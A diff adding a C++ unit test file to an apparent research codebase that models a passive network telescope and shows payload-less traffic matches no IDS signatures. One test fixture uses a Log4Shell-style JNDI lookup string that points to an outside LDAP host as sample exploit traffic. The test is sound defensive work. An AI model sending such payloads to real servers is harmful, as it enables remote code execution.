@@ -1,0 +1,74 @@
+#include "telescope/darknet.h"
+
+#include <gtest/gtest.h>
+
+#include "ids/matcher.h"
+#include "ids/rule_gen.h"
+#include "pipeline/study.h"
+
+namespace cvewb::telescope {
+namespace {
+
+TEST(Darknet, ObservesOnlyInPrefixAndStripsPayload) {
+  const Darknet darknet(*net::Prefix::parse("10.0.0.0/8"));
+  net::TcpSession inside;
+  inside.dst = net::IPv4(10, 1, 2, 3);
+  inside.src = net::IPv4(198, 51, 100, 1);
+  inside.dst_port = 8090;
+  inside.payload = "GET /?x=${jndi:ldap://e/a} HTTP/1.1\r\n\r\n";
+  DarknetObservation observation;
+  ASSERT_TRUE(darknet.observe(inside, observation));
+  EXPECT_EQ(observation.dst_port, 8090);
+  EXPECT_EQ(observation.src, inside.src);
+
+  net::TcpSession outside = inside;
+  outside.dst = net::IPv4(11, 0, 0, 1);
+  EXPECT_FALSE(darknet.observe(outside, observation));
+}
+
+TEST(Darknet, CannotIdentifyAnyCve) {
+  // The §3.1 argument made concrete: the same exploit traffic without
+  // application-layer capture matches zero signatures.
+  pipeline::StudyConfig config;
+  config.seed = 11;
+  config.event_scale = 0.01;
+  config.background_per_day = 2.0;
+  config.telescope_lanes = 10;
+  config.pool_size = 50000;
+  const auto dscope = pipeline::make_study_telescope(config);
+  traffic::InternetConfig internet;
+  internet.seed = config.seed;
+  internet.event_scale = config.event_scale;
+  internet.background_per_day = config.background_per_day;
+  const auto traffic = traffic::generate_traffic(dscope, internet);
+
+  // Observe everything the interactive telescope saw, passively.
+  Darknet darknet(net::Prefix(net::IPv4(0, 0, 0, 0), 0));
+  const auto observations = darknet.observe_all(traffic.sessions);
+  EXPECT_EQ(observations.size(), traffic.sessions.size());
+
+  // Reconstruct sessions from darknet data (payloadless) and run the IDS.
+  std::vector<net::TcpSession> stripped;
+  for (const auto& obs : observations) {
+    net::TcpSession s;
+    s.open_time = obs.time;
+    s.src = obs.src;
+    s.dst = obs.dst;
+    s.dst_port = obs.dst_port;
+    stripped.push_back(std::move(s));
+  }
+  const ids::Matcher matcher(ids::generate_study_ruleset().rules());
+  std::size_t matched = 0;
+  for (const auto& s : stripped) {
+    matched += matcher.earliest_published_match(s) != nullptr ? 1 : 0;
+  }
+  EXPECT_EQ(matched, 0u);
+
+  // Interactive capture of the same traffic identifies most studied CVEs.
+  const auto reconstruction =
+      pipeline::reconstruct(traffic.sessions, ids::generate_study_ruleset());
+  EXPECT_GT(reconstruction.timelines.size(), 50u);
+}
+
+}  // namespace
+}  // namespace cvewb::telescope
